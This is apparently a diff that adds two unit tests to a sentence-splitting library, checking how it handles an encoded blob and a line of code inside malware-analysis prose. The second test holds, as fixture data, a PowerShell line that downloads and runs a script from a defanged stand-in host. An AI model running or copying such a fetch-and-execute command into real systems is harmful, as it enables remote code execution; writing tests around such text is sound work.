@@ -97,3 +97,18 @@ def test_no_more_sentences_than_are_looked_at() -> None:
 def test_the_first_part_of_a_text_that_was_cut_off(text: str, part: str | None) -> None:
     found = first_part(text, 0, len(text))
     assert (found.text if found else None) == part
+
+
+def test_a_sentence_ends_where_a_blob_begins() -> None:
+    text = "The loader holds a block that it runs: AAECAwQFBgcICQoLDA0ODxAR… (4096 characters) It"
+    found = sentences_of(f"{text} steals browser passwords.")
+    assert joined(found) == "The loader holds a block that it runs. It steals browser passwords."
+    assert all(one.ended for one in found)
+
+
+def test_a_line_of_code_is_no_sentence_and_takes_none_along() -> None:
+    code = "IEX (New-Object Net.WebClient).DownloadString('hxxp://print[.]evil[.]example/a.ps1')"
+    text = f"It runs this line.\n{code}\nAnalysts should block the domain."
+    assert [one.text for one in sentences_of(text)] == [
+        "It runs this line.", "Analysts should block the domain.",
+    ]  # fmt: skip
